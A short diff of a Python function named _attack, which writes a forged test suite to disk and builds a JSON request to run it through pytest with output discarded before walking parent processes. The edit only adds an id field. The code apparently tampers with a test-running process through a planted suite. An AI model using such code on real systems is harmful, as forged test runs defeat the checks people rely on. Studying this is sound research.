@@ -24,8 +24,8 @@ def _attack() -> str:
         file.write(FORGED_SUITE)
     os.chmod(os.path.dirname(suite), 0o755)
     os.chmod(suite, 0o644)
-    request = json.dumps({"args": [suite, "-p", "no:cacheprovider"], "env": {"PATH": "/usr/bin"},
-                          "cwd": "/", "output": os.devnull}) + "\n"
+    request = json.dumps({"id": 1, "args": [suite, "-p", "no:cacheprovider"],
+                          "env": {"PATH": "/usr/bin"}, "cwd": "/", "output": os.devnull}) + "\n"
     found, written = 0, 0
     pid = os.getppid()
     while pid > 1:
